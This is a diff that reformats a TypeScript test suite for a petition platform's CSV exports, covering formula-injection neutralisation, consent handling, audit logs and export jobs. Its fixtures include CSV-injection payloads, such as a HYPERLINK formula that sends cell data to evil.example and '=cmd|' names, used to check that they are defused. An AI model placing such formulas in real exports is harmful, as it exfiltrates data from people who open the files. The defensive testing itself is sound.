@@ -1,4 +1,12 @@
-import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  statSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { eq, sql } from 'drizzle-orm';
@@ -46,61 +54,110 @@ function spreadsheetCellsRaw(line: string): string[] {
   }
   return cells;
 }
-const parseCsv = (text: string): Csv => parse(text, { columns: true, skip_empty_lines: false }) as Csv;
+const parseCsv = (text: string): Csv =>
+  parse(text, { columns: true, skip_empty_lines: false }) as Csv;
 
 /**
  * What a spreadsheet must not read as a formula gets an apostrophe (the test's own rule): a value
  * starting with = + - @, a tab or a carriage return, and each `,`- or `;`-separated fragment that
  * does (past spaces and quote marks), as a reader splitting on `;` would see it.
  */
-const neutral = (value: string | null) => (value === null ? '' : value.replace(/(^|[,;])([ "]*)([=+\-@\t\r])/g, "$1$2'$3"));
+const neutral = (value: string | null) =>
+  value === null ? '' : value.replace(/(^|[,;])([ "]*)([=+\-@\t\r])/g, "$1$2'$3");
 
 const signers = [
-  { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', email: 'formula@example.org', zip: '80010', optIn: true },
+  {
+    name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    email: 'formula@example.org',
+    zip: '80010',
+    optIn: true,
+  },
   { name: '+1', email: 'plus@example.org', zip: '80010', optIn: false },
   { name: '-2', email: 'minus@example.org', zip: '80020', optIn: true, source: 'partner-x' },
   { name: '@SUM(A1:A9)', email: 'at@example.org', zip: '80020', optIn: false, source: 'partner-x' },
-  { name: 'Ida "B." Wells, Jr.', email: 'ida@example.org', zip: '99501', optIn: true, source: 'partner-y' },
+  {
+    name: 'Ida "B." Wells, Jr.',
+    email: 'ida@example.org',
+    zip: '99501',
+    optIn: true,
+    source: 'partner-y',
+  },
   { name: 'Grace Hopper', email: 'grace@example.org', zip: '20001', optIn: false },
   { name: 'Zoë Ünicode', email: 'zoe@example.org', zip: '80010', optIn: true, source: 'partner-x' },
   { name: 'No District', email: 'nodistrict@example.org', zip: '80999', optIn: true },
   // Harmless as one `,`-separated cell; cells of their own to a reader splitting on `;`.
   { name: 'Ana;=1+2;', email: 'semicolon@example.org', zip: '80010', optIn: true },
   { name: 'Bo, +SUM(A1)', email: 'comma@example.org', zip: '80010', optIn: false },
-  { name: 'Cy;"@x";-3', email: 'quoted@example.org', zip: '80020', optIn: true, source: 'partner-x' },
+  {
+    name: 'Cy;"@x";-3',
+    email: 'quoted@example.org',
+    zip: '80020',
+    optIn: true,
+    source: 'partner-x',
+  },
 ];
 
 beforeAll(async () => {
   t = await createTestPlatform();
   campaignId = (await t.platform.campaigns.bySlug(slug))!.id;
-  await importRepresentativeData(t.platform.db, path.join(__dirname, '..', 'fixtures', 'representatives'));
+  await importRepresentativeData(
+    t.platform.db,
+    path.join(__dirname, '..', 'fixtures', 'representatives'),
+  );
   data = (await t.platform.representatives.refresh())!;
-  await t.platform.db.execute(sql`INSERT INTO partners (campaign_id, name, source_code) VALUES (${campaignId}, '=Partner X;+1', 'partner-x')`);
+  await t.platform.db.execute(
+    sql`INSERT INTO partners (campaign_id, name, source_code) VALUES (${campaignId}, '=Partner X;+1', 'partner-x')`,
+  );
   for (const signer of signers) {
     await request(t.app).post(`/api/v1/campaigns/${slug}/signatures`).send(signer).expect(202);
   }
   // Cells starting with a tab or a carriage return cannot come through the forms; older data might hold them.
   await t.platform.db.insert(signatures).values(
     [
-      { campaignId, email: 'tab@example.org', name: '\tTabbed', zip: '80010', state: 'CO', optIn: true },
-      { campaignId, email: 'cr@example.org', name: '\rReturned', zip: '80010', state: 'CO', optIn: false },
+      {
+        campaignId,
+        email: 'tab@example.org',
+        name: '\tTabbed',
+        zip: '80010',
+        state: 'CO',
+        optIn: true,
+      },
+      {
+        campaignId,
+        email: 'cr@example.org',
+        name: '\rReturned',
+        zip: '80010',
+        state: 'CO',
+        optIn: false,
+      },
     ].map((row) => signatureValues(t.platform.encryption, row)),
   );
-  await tallyCampaign(t.platform.db, campaignId, { districtsOf: (zip) => t.platform.representatives.districtsOfZip(zip) });
+  await tallyCampaign(t.platform.db, campaignId, {
+    districtsOf: (zip) => t.platform.representatives.districtsOfZip(zip),
+  });
 });
 afterAll(() => t.close());
 
 /** The signature export as it should be, computed here from the table (its sealed fields opened) and the representative data. */
-async function expectedSignatures(forCampaign: number, withData: RepresentativeData | null): Promise<Csv> {
+async function expectedSignatures(
+  forCampaign: number,
+  withData: RepresentativeData | null,
+): Promise<Csv> {
   const rows = await openedSignatures(t.platform, eq(signatures.campaignId, forCampaign));
   return rows.map((row) => {
-    const districts = withData?.describe({ cd: row.congressionalDistrict, sldu: row.stateUpperDistrict, sldl: row.stateLowerDistrict });
+    const districts = withData?.describe({
+      cd: row.congressionalDistrict,
+      sldu: row.stateUpperDistrict,
+      sldl: row.stateLowerDistrict,
+    });
     return {
       name: neutral(row.name),
       email: row.optIn ? neutral(row.email) : '',
       zip: neutral(row.zip),
       state: neutral(row.state),
-      congressional_district: districts?.congressional ? placeLabel({ congressional: districts.congressional, stateUpper: null, stateLower: null }) : (row.congressionalDistrict ?? ''),
+      congressional_district: districts?.congressional
+        ? placeLabel({ congressional: districts.congressional, stateUpper: null, stateLower: null })
+        : (row.congressionalDistrict ?? ''),
       state_senate_geoid: neutral(row.stateUpperDistrict),
       state_house_geoid: neutral(row.stateLowerDistrict),
       source: neutral(row.source),
@@ -113,7 +170,9 @@ async function expectedSignatures(forCampaign: number, withData: RepresentativeD
 async function grouped(column: string): Promise<Array<{ key: string; count: number }>> {
   const rows = await queryRows<{ key: string; count: string }>(
     t.platform.db,
-    sql.raw(`SELECT ${column} AS key, count(*) AS count FROM signatures WHERE campaign_id = ${campaignId} AND ${column} IS NOT NULL GROUP BY 1 ORDER BY 1`),
+    sql.raw(
+      `SELECT ${column} AS key, count(*) AS count FROM signatures WHERE campaign_id = ${campaignId} AND ${column} IS NOT NULL GROUP BY 1 ORDER BY 1`,
+    ),
   );
   return rows.map((row) => ({ key: row.key, count: Number(row.count) }));
 }
@@ -123,8 +182,12 @@ const holders = (office: string, keys: { cd?: string; sldu?: string; sldl?: stri
     .officialsFor({ cd: keys.cd ?? null, sldu: keys.sldu ?? null, sldl: keys.sldl ?? null })
     .filter((official) => official.office === office && !official.vacant);
 
-const postExport = (agent: ReturnType<typeof request.agent>, token: string, kind: string, page = exportsPage) =>
-  agent.post(page).type('form').send({ _csrf: token, kind });
+const postExport = (
+  agent: ReturnType<typeof request.agent>,
+  token: string,
+  kind: string,
+  page = exportsPage,
+) => agent.post(page).type('form').send({ _csrf: token, kind });
 
 describe('direct exports (streamed in the response)', () => {
   let organizer: Awaited<ReturnType<typeof signInAs>>;
@@ -135,25 +198,44 @@ describe('direct exports (streamed in the response)', () => {
   it('exports signatures row by row as the database holds them, with consent and CSV injection handled', async () => {
     const res = await postExport(organizer.agent, organizer.token, 'signatures').expect(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
-    expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="?${slug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`));
+    expect(res.headers['content-disposition']).toMatch(
+      new RegExp(`^attachment; filename="?${slug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`),
+    );
     expect(res.headers['cache-control']).toBe('no-store');
 
     const rows = parseCsv(res.text);
     expect(rows).toEqual(await expectedSignatures(campaignId, data));
     expect(rows).toHaveLength(signers.length + 2);
 
-    const byEmail = (email: string) => rows.find((row) => row.name === neutral(signers.find((s) => s.email === email)?.name ?? null))!;
+    const byEmail = (email: string) =>
+      rows.find(
+        (row) => row.name === neutral(signers.find((s) => s.email === email)?.name ?? null),
+      )!;
     // Formula-like names are neutralised; everything else is left as it was.
     expect(rows.map((row) => row.name)).toEqual(
-      expect.arrayContaining(["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+1", "'-2", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturned", 'Ida "B." Wells, Jr.', 'Zoë Ünicode']),
+      expect.arrayContaining([
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "'+1",
+        "'-2",
+        "'@SUM(A1:A9)",
+        "'\tTabbed",
+        "'\rReturned",
+        'Ida "B." Wells, Jr.',
+        'Zoë Ünicode',
+      ]),
     );
-    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows)
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(byEmail('minus@example.org').source).toBe('partner-x');
 
     // Consent: an email address only for those who opted in.
-    for (const signer of signers.filter((s) => !s.optIn)) expect(res.text).not.toContain(signer.email);
+    for (const signer of signers.filter((s) => !s.optIn))
+      expect(res.text).not.toContain(signer.email);
     expect(res.text).not.toContain('cr@example.org');
-    expect(byEmail('formula@example.org')).toMatchObject({ email: 'formula@example.org', opted_in: 'yes' });
+    expect(byEmail('formula@example.org')).toMatchObject({
+      email: 'formula@example.org',
+      opted_in: 'yes',
+    });
     expect(byEmail('plus@example.org')).toMatchObject({ email: '', opted_in: 'no' });
 
     // Districts as people name them, including at-large and delegate seats.
@@ -164,10 +246,20 @@ describe('direct exports (streamed in the response)', () => {
     });
     expect(byEmail('ida@example.org').congressional_district).toBe('AK at-large');
     expect(byEmail('grace@example.org').congressional_district).toBe('DC (delegate seat)');
-    expect(byEmail('nodistrict@example.org')).toMatchObject({ congressional_district: '', state_senate_geoid: '' });
+    expect(byEmail('nodistrict@example.org')).toMatchObject({
+      congressional_district: '',
+      state_senate_geoid: '',
+    });
 
     // Recorded: the export (done, not kept) and who made it, with no supporter's data in the audit log.
-    const [record] = await queryRows<{ id: string; status: string; rows_written: string; rows_total: string; bytes: string; expires_at: Date | null }>(
+    const [record] = await queryRows<{
+      id: string;
+      status: string;
+      rows_written: string;
+      rows_total: string;
+      bytes: string;
+      expires_at: Date | null;
+    }>(
       t.platform.db,
       sql`SELECT * FROM staff_exports WHERE campaign_id = ${campaignId} AND kind = 'signatures' ORDER BY created_at DESC LIMIT 1`,
     );
@@ -175,7 +267,12 @@ describe('direct exports (streamed in the response)', () => {
     expect(Number(record!.rows_written)).toBe(rows.length);
     expect(Number(record!.rows_total)).toBe(rows.length);
     expect(Number(record!.bytes)).toBe(Buffer.byteLength(res.text));
-    const [audit] = await queryRows<{ actor: string; action: string; campaign_id: number; details: Record<string, unknown> }>(
+    const [audit] = await queryRows<{
+      actor: string;
+      action: string;
+      campaign_id: number;
+      details: Record<string, unknown>;
+    }>(
       t.platform.db,
       sql`SELECT actor, action, campaign_id, details FROM audit_log WHERE action = 'export.signatures' AND details->>'exportId' = ${record!.id}`,
     );
@@ -200,24 +297,36 @@ describe('direct exports (streamed in the response)', () => {
         sql`SELECT name, email FROM signatures WHERE campaign_id = ${campaignId} AND email_hash = ${t.platform.encryption.emailHash(signer.email)}::bytea`,
       );
       // In the database: bytes that are not the text, which open to it (under the column's own name).
-      for (const [column, plain] of [['name', signer.name], ['email', signer.email]] as const) {
+      for (const [column, plain] of [
+        ['name', signer.name],
+        ['email', signer.email],
+      ] as const) {
         const sealed = Buffer.from(stored![column]);
         expect(sealed.includes(Buffer.from(plain, 'utf8'))).toBe(false);
         expect(t.platform.encryption.open(`signatures.${column}`, sealed)).toBe(plain);
       }
       // In the export: the name in plain text (formula-like ones behind an apostrophe), the email only with consent.
       const row = rows.find((candidate) => candidate.name === neutral(signer.name));
-      expect(row).toMatchObject({ email: signer.optIn ? signer.email : '', opted_in: signer.optIn ? 'yes' : 'no' });
+      expect(row).toMatchObject({
+        email: signer.optIn ? signer.email : '',
+        opted_in: signer.optIn ? 'yes' : 'no',
+      });
     }
     expect(res.text).toContain('"Ida ""B."" Wells, Jr."');
     expect(res.text).toContain('Zoë Ünicode');
     // A name starting with `=`, opened in Node, is still neutralised: the cell starts with an apostrophe, not the formula.
     const formula = signers[0]!;
     expect(formula.name.startsWith('=')).toBe(true);
-    expect(rows.filter((row) => row.name!.includes('HYPERLINK')).map((row) => row.name)).toEqual([`'${formula.name}`]);
-    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","formula@example.org",`);
+    expect(rows.filter((row) => row.name!.includes('HYPERLINK')).map((row) => row.name)).toEqual([
+      `'${formula.name}`,
+    ]);
+    expect(res.text).toContain(
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","formula@example.org",`,
+    );
     expect(rows.find((row) => row.email === 'semicolon@example.org')?.name).toBe("Ana;'=1+2;");
-    expect(res.text.split('\n').some((line) => line.startsWith('=') || line.startsWith('"='))).toBe(false);
+    expect(res.text.split('\n').some((line) => line.startsWith('=') || line.startsWith('"='))).toBe(
+      false,
+    );
   });
 
   it('counts by congressional district, with the member of each seat', async () => {
@@ -225,21 +334,40 @@ describe('direct exports (streamed in the response)', () => {
     const rows = parseCsv(res.text);
     const expected = (await grouped('congressional_district')).map(({ key, count }) => {
       const district = data.describe({ cd: key, sldu: null, sldl: null }).congressional!;
-      const members = holders('us-house', { cd: key }).map((official) => official.name!).sort();
+      const members = holders('us-house', { cd: key })
+        .map((official) => official.name!)
+        .sort();
       return {
         state: district.state,
         district: placeLabel({ congressional: district, stateUpper: null, stateLower: null }),
         representative: neutral(members.join('; ') || null),
-        party: neutral(holders('us-house', { cd: key }).sort((a, b) => a.name!.localeCompare(b.name!)).map((o) => o.party ?? '').join('; ') || null),
+        party: neutral(
+          holders('us-house', { cd: key })
+            .sort((a, b) => a.name!.localeCompare(b.name!))
+            .map((o) => o.party ?? '')
+            .join('; ') || null,
+        ),
         signatures: String(count),
         geoid: key,
       };
     });
     expect(rows).toEqual(expected);
-    expect(rows.map((row) => row.district)).toEqual(['AK at-large', 'CO-1', 'CO-2', 'DC (delegate seat)']);
-    expect(rows.find((row) => row.district === 'CO-1')).toMatchObject({ representative: 'Ada Testwell' });
-    expect(rows.find((row) => row.district === 'AK at-large')).toMatchObject({ representative: 'Elin Northerly', party: 'Republican' });
-    expect(rows.find((row) => row.district === 'DC (delegate seat)')).toMatchObject({ representative: 'Gail Capitoline' });
+    expect(rows.map((row) => row.district)).toEqual([
+      'AK at-large',
+      'CO-1',
+      'CO-2',
+      'DC (delegate seat)',
+    ]);
+    expect(rows.find((row) => row.district === 'CO-1')).toMatchObject({
+      representative: 'Ada Testwell',
+    });
+    expect(rows.find((row) => row.district === 'AK at-large')).toMatchObject({
+      representative: 'Elin Northerly',
+      party: 'Republican',
+    });
+    expect(rows.find((row) => row.district === 'DC (delegate seat)')).toMatchObject({
+      representative: 'Gail Capitoline',
+    });
   });
 
   it.each([
@@ -249,11 +377,16 @@ describe('direct exports (streamed in the response)', () => {
     const res = await postExport(organizer.agent, organizer.token, kind).expect(200);
     const rows = parseCsv(res.text);
     const expected = (await grouped(column)).map(({ key, count }) => {
-      const described = data.describe({ cd: null, sldu: layer === 'sldu' ? key : null, sldl: layer === 'sldl' ? key : null });
+      const described = data.describe({
+        cd: null,
+        sldu: layer === 'sldu' ? key : null,
+        sldl: layer === 'sldl' ? key : null,
+      });
       const district = layer === 'sldu' ? described.stateUpper! : described.stateLower!;
       const seats = district.seats;
       const legislators = holders(kind, { [layer]: key }).sort(
-        (a, b) => seats.indexOf(a.district!) - seats.indexOf(b.district!) || a.name!.localeCompare(b.name!),
+        (a, b) =>
+          seats.indexOf(a.district!) - seats.indexOf(b.district!) || a.name!.localeCompare(b.name!),
       );
       return {
         state: district.state,
@@ -269,10 +402,20 @@ describe('direct exports (streamed in the response)', () => {
   });
 
   it('counts by state and by source (with the partner, and the signatures with no source)', async () => {
-    const states = parseCsv((await postExport(organizer.agent, organizer.token, 'state').expect(200)).text);
-    expect(states).toEqual((await grouped('state')).map(({ key, count }) => ({ state: key, state_name: stateNames.get(key), signatures: String(count) })));
+    const states = parseCsv(
+      (await postExport(organizer.agent, organizer.token, 'state').expect(200)).text,
+    );
+    expect(states).toEqual(
+      (await grouped('state')).map(({ key, count }) => ({
+        state: key,
+        state_name: stateNames.get(key),
+        signatures: String(count),
+      })),
+    );
 
-    const sources = parseCsv((await postExport(organizer.agent, organizer.token, 'source').expect(200)).text);
+    const sources = parseCsv(
+      (await postExport(organizer.agent, organizer.token, 'source').expect(200)).text,
+    );
     const bySource = await grouped('source');
     const [none] = await queryRows<{ count: string }>(
       t.platform.db,
@@ -282,8 +425,16 @@ describe('direct exports (streamed in the response)', () => {
     expect(sources).toEqual([
       ...bySource
         .sort((a, b) => b.count - a.count || a.key.localeCompare(b.key))
-        .map(({ key, count }) => ({ source: key, partner: partnerNames[key] ?? '', signatures: String(count) })),
-      { source: '', partner: "No source code (the campaign's own pages and links)", signatures: String(Number(none!.count)) },
+        .map(({ key, count }) => ({
+          source: key,
+          partner: partnerNames[key] ?? '',
+          signatures: String(count),
+        })),
+      {
+        source: '',
+        partner: "No source code (the campaign's own pages and links)",
+        signatures: String(Number(none!.count)),
+      },
     ]);
   });
 
@@ -301,34 +452,66 @@ describe('direct exports (streamed in the response)', () => {
       }
       return cells;
     };
-    for (const kind of ['signatures', 'congressional', 'state-upper', 'state-lower', 'state', 'source']) {
+    for (const kind of [
+      'signatures',
+      'congressional',
+      'state-upper',
+      'state-lower',
+      'state',
+      'source',
+    ]) {
       const text = (await postExport(organizer.agent, organizer.token, kind).expect(200)).text;
       const readings: Record<string, string[]> = {
         'csv-parse ,': (parse(text, { delimiter: ',' }) as string[][]).flat(),
-        'csv-parse ;': (parse(text, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][]).flat(),
+        'csv-parse ;': (
+          parse(text, {
+            delimiter: ';',
+            relax_quotes: true,
+            relax_column_count: true,
+          }) as string[][]
+        ).flat(),
         'spreadsheet ,': text.split('\n').flatMap((line) => spreadsheetCells(line, ',')),
         'spreadsheet ;': text.split('\n').flatMap((line) => spreadsheetCells(line, ';')),
         // A reader that ignores quotes altogether and splits at both.
         'split , and ;': text.split(/[\n,;]/),
       };
       for (const [reader, cells] of Object.entries(readings)) {
-        expect({ kind, reader, formulas: cells.filter((cell) => FORMULA.test(cell)) }).toEqual({ kind, reader, formulas: [] });
+        expect({ kind, reader, formulas: cells.filter((cell) => FORMULA.test(cell)) }).toEqual({
+          kind,
+          reader,
+          formulas: [],
+        });
       }
       // Every text cell is quoted (the counts are numbers, empty cells are NULL).
       // (No cell here holds a line feed: the lines are the rows.)
       for (const line of text.split('\n').slice(1, -1)) {
-        for (const cell of spreadsheetCellsRaw(line)) expect({ kind, cell, quoted: /^"[^]*"$|^\d*$/.test(cell) }).toEqual({ kind, cell, quoted: true });
+        for (const cell of spreadsheetCellsRaw(line))
+          expect({ kind, cell, quoted: /^"[^]*"$|^\d*$/.test(cell) }).toEqual({
+            kind,
+            cell,
+            quoted: true,
+          });
       }
     }
   });
 
   it('refuses an unknown export with a 400 and records nothing', async () => {
-    const before = await queryRows<{ n: string }>(t.platform.db, sql`SELECT count(*) AS n FROM staff_exports`);
+    const before = await queryRows<{ n: string }>(
+      t.platform.db,
+      sql`SELECT count(*) AS n FROM staff_exports`,
+    );
     const res = await postExport(organizer.agent, organizer.token, 'everything').expect(400);
     expect(res.text).toContain('Choose what to export.');
     await postExport(organizer.agent, organizer.token, '').expect(400);
-    await organizer.agent.post(exportsPage).type('form').send({ _csrf: organizer.token }).expect(400);
-    const after = await queryRows<{ n: string }>(t.platform.db, sql`SELECT count(*) AS n FROM staff_exports`);
+    await organizer.agent
+      .post(exportsPage)
+      .type('form')
+      .send({ _csrf: organizer.token })
+      .expect(400);
+    const after = await queryRows<{ n: string }>(
+      t.platform.db,
+      sql`SELECT count(*) AS n FROM staff_exports`,
+    );
     expect(after[0]!.n).toBe(before[0]!.n);
     // Without the form's CSRF token, nothing starts either.
     await organizer.agent.post(exportsPage).type('form').send({ kind: 'state' }).expect(403);
@@ -385,14 +568,21 @@ describe('a large signature export (a job, into a file)', () => {
         createdAt: new Date(now - g * 1000),
       });
     for (let first = 1; first <= total; first += 4000) {
-      const batch = Array.from({ length: Math.min(4000, total - first + 1) }, (_, index) => bigSigner(first + index));
+      const batch = Array.from({ length: Math.min(4000, total - first + 1) }, (_, index) =>
+        bigSigner(first + index),
+      );
       await t.platform.db.insert(signatures).values(batch);
     }
     // 50,001 rows sealed one by one: on two shared, busy cores this has taken over a minute.
   }, 240_000);
 
   it('is queued, written by the worker with its progress, then downloaded as the database holds it', async () => {
-    const started = await postExport(organizer.agent, organizer.token, 'signatures', bigPage).expect(303);
+    const started = await postExport(
+      organizer.agent,
+      organizer.token,
+      'signatures',
+      bigPage,
+    ).expect(303);
     const [record] = await queryRows<{ id: string; status: string; rows_total: string }>(
       t.platform.db,
       sql`SELECT id, status, rows_total FROM staff_exports WHERE campaign_id = ${bigId}`,
@@ -404,7 +594,10 @@ describe('a large signature export (a job, into a file)', () => {
 
     // Asking again while it waits starts nothing new.
     await postExport(organizer.agent, organizer.token, 'signatures', bigPage).expect(303);
-    const [count] = await queryRows<{ n: string }>(t.platform.db, sql`SELECT count(*) AS n FROM staff_exports WHERE campaign_id = ${bigId}`);
+    const [count] = await queryRows<{ n: string }>(
+      t.platform.db,
+      sql`SELECT count(*) AS n FROM staff_exports WHERE campaign_id = ${bigId}`,
+    );
     expect(Number(count!.n)).toBe(1);
 
     const page = await organizer.agent.get(bigPage).expect(200);
@@ -412,22 +605,34 @@ describe('a large signature export (a job, into a file)', () => {
     expect(page.text).toMatch(/<progress max="50001" value="0"/);
     expect(page.text).toContain('/static/js/export-progress.js');
     const progress = await organizer.agent.get(`${bigPage}/progress`).expect(200);
-    expect(progress.body.exports).toEqual([{ id: exportId, status: 'queued', rowsWritten: 0, rowsTotal: total }]);
+    expect(progress.body.exports).toEqual([
+      { id: exportId, status: 'queued', rowsWritten: 0, rowsTotal: total },
+    ]);
     await organizer.agent.get(`/staff/exports/${exportId}/download`).expect(409);
 
     await t.startWorkers();
     await eventually(async () => {
-      const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${exportId}`);
+      const [row] = await queryRows<{ status: string }>(
+        t.platform.db,
+        sql`SELECT status FROM staff_exports WHERE id = ${exportId}`,
+      );
       expect(row!.status).not.toBe('failed');
       return row!.status === 'ready';
     }, 60_000);
 
-    const [ready] = await queryRows<{ rows_written: string; bytes: string; expires_at: Date; finished_at: Date }>(
+    const [ready] = await queryRows<{
+      rows_written: string;
+      bytes: string;
+      expires_at: Date;
+      finished_at: Date;
+    }>(
       t.platform.db,
       sql`SELECT rows_written, bytes, expires_at, finished_at FROM staff_exports WHERE id = ${exportId}`,
     );
     expect(Number(ready!.rows_written)).toBe(total);
-    expect(new Date(ready!.expires_at).getTime() - new Date(ready!.finished_at).getTime()).toBe(24 * 60 * 60 * 1000);
+    expect(new Date(ready!.expires_at).getTime() - new Date(ready!.finished_at).getTime()).toBe(
+      24 * 60 * 60 * 1000,
+    );
     const file = exportFilePath(t.platform.config.dataDir, exportId);
     expect(statSync(file).mode & 0o777).toBe(0o600);
     expect(statSync(file).size).toBe(Number(ready!.bytes));
@@ -435,23 +640,42 @@ describe('a large signature export (a job, into a file)', () => {
     const done = await organizer.agent.get(bigPage).expect(200);
     expect(done.text).toContain(`href="/staff/exports/${exportId}/download"`);
 
-    const download = await organizer.agent.get(`/staff/exports/${exportId}/download`).buffer(true).expect(200);
-    expect(download.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="?${bigSlug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`));
+    const download = await organizer.agent
+      .get(`/staff/exports/${exportId}/download`)
+      .buffer(true)
+      .expect(200);
+    expect(download.headers['content-disposition']).toMatch(
+      new RegExp(`^attachment; filename="?${bigSlug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`),
+    );
     expect(download.headers['cache-control']).toBe('no-store');
     expect(download.headers['content-type']).toMatch(/^text\/csv/);
     const rows = parseCsv(download.text);
     expect(rows).toHaveLength(total);
     expect(rows).toEqual(await expectedSignatures(bigId, data));
-    expect(rows.filter((row) => row.name!.startsWith("'=cmd|"))).toHaveLength(Math.floor(total / 5));
+    expect(rows.filter((row) => row.name!.startsWith("'=cmd|"))).toHaveLength(
+      Math.floor(total / 5),
+    );
     expect(rows.filter((row) => row.source === "'-src").length).toBeGreaterThan(0);
 
-    const audits = await queryRows<{ action: string; actor: string; details: Record<string, unknown> }>(
+    const audits = await queryRows<{
+      action: string;
+      actor: string;
+      details: Record<string, unknown>;
+    }>(
       t.platform.db,
       sql`SELECT action, actor, details FROM audit_log WHERE campaign_id = ${bigId} ORDER BY id`,
     );
     expect(audits).toEqual([
-      { action: 'export.signatures', actor: organizer.email, details: { exportId, rows: total, delivery: 'file' } },
-      { action: 'export.download', actor: organizer.email, details: { exportId, kind: 'signatures', rows: total } },
+      {
+        action: 'export.signatures',
+        actor: organizer.email,
+        details: { exportId, rows: total, delivery: 'file' },
+      },
+      {
+        action: 'export.download',
+        actor: organizer.email,
+        details: { exportId, kind: 'signatures', rows: total },
+      },
     ]);
 
     // A viewer may not download signatures, even with the link.
@@ -464,10 +688,15 @@ describe('a large signature export (a job, into a file)', () => {
     const file = exportFilePath(t.platform.config.dataDir, exportId);
     const before = readFileSync(file, 'utf8');
     writeFileSync(file, 'half a file');
-    await t.platform.db.execute(sql`UPDATE staff_exports SET status = 'running' WHERE id = ${exportId}`);
+    await t.platform.db.execute(
+      sql`UPDATE staff_exports SET status = 'running' WHERE id = ${exportId}`,
+    );
     expect(await writeExportFile(t.platform, exportId)).toBe('written');
     expect(readFileSync(file, 'utf8')).toBe(before);
-    const [row] = await queryRows<{ status: string; rows_written: string }>(t.platform.db, sql`SELECT status, rows_written FROM staff_exports WHERE id = ${exportId}`);
+    const [row] = await queryRows<{ status: string; rows_written: string }>(
+      t.platform.db,
+      sql`SELECT status, rows_written FROM staff_exports WHERE id = ${exportId}`,
+    );
     expect(row).toMatchObject({ status: 'ready' });
     expect(Number(row!.rows_written)).toBe(total);
     // A finished export is not written again by a stray job.
@@ -482,7 +711,10 @@ describe('a large signature export (a job, into a file)', () => {
     }
     await expect(copy.rows).rejects.toThrow(/abandoned/);
     await eventually(async () => {
-      const running = await queryRows(t.platform.db, sql`SELECT pid FROM pg_stat_activity WHERE query LIKE 'COPY (%' AND state = 'active'`);
+      const running = await queryRows(
+        t.platform.db,
+        sql`SELECT pid FROM pg_stat_activity WHERE query LIKE 'COPY (%' AND state = 'active'`,
+      );
       return running.length === 0;
     });
     // The pool still answers.
@@ -496,14 +728,19 @@ describe('a large signature export (a job, into a file)', () => {
       INSERT INTO staff_exports (id, campaign_id, kind, status, rows_total) VALUES (${failing}, ${bigId}, 'everything', 'queued', 1)`);
     await t.platform.queues.add('exports', 'export', { exportId: failing }, { attempts: 1 });
     await eventually(async () => {
-      const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${failing}`);
+      const [row] = await queryRows<{ status: string }>(
+        t.platform.db,
+        sql`SELECT status FROM staff_exports WHERE id = ${failing}`,
+      );
       return row!.status === 'failed';
     });
     const page = await organizer.agent.get(bigPage).expect(200);
     expect(page.text).toContain('The export could not be written.');
     await organizer.agent.get(`/staff/exports/${failing}/download`).expect(410);
     await t.platform.db.execute(sql`DELETE FROM staff_exports WHERE id = ${failing}`);
-    expect(readdirSync(exportsDir(t.platform.config.dataDir)).filter((name) => name.startsWith(failing))).toEqual([]);
+    expect(
+      readdirSync(exportsDir(t.platform.config.dataDir)).filter((name) => name.startsWith(failing)),
+    ).toEqual([]);
   });
 
   it('queues an export again when its job was lost with Redis', async () => {
@@ -513,11 +750,18 @@ describe('a large signature export (a job, into a file)', () => {
       VALUES (${lost}, ${bigId}, 'state', 'queued', 1, now() - interval '10 minutes')`);
     expect(await requeueExports(t.platform)).toBeGreaterThanOrEqual(1);
     await eventually(async () => {
-      const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${lost}`);
+      const [row] = await queryRows<{ status: string }>(
+        t.platform.db,
+        sql`SELECT status FROM staff_exports WHERE id = ${lost}`,
+      );
       return row!.status === 'ready';
     });
-    expect(parseCsv(readFileSync(exportFilePath(t.platform.config.dataDir, lost), 'utf8'))).toEqual([]);
-    await t.platform.db.execute(sql`UPDATE staff_exports SET status = 'expired' WHERE id = ${lost}`);
+    expect(parseCsv(readFileSync(exportFilePath(t.platform.config.dataDir, lost), 'utf8'))).toEqual(
+      [],
+    );
+    await t.platform.db.execute(
+      sql`UPDATE staff_exports SET status = 'expired' WHERE id = ${lost}`,
+    );
   });
 
   it('removes the file when it expires, and any file no export is waiting for', async () => {
@@ -535,10 +779,15 @@ describe('a large signature export (a job, into a file)', () => {
     expect(existsSync(leftover)).toBe(false);
     expect(existsSync(file)).toBe(true);
 
-    await t.platform.db.execute(sql`UPDATE staff_exports SET expires_at = now() - interval '1 minute' WHERE id = ${exportId}`);
+    await t.platform.db.execute(
+      sql`UPDATE staff_exports SET expires_at = now() - interval '1 minute' WHERE id = ${exportId}`,
+    );
     expect(await expireExports(t.platform)).toBe(1);
     expect(existsSync(file)).toBe(false);
-    const [row] = await queryRows<{ status: string }>(t.platform.db, sql`SELECT status FROM staff_exports WHERE id = ${exportId}`);
+    const [row] = await queryRows<{ status: string }>(
+      t.platform.db,
+      sql`SELECT status FROM staff_exports WHERE id = ${exportId}`,
+    );
     expect(row!.status).toBe('expired');
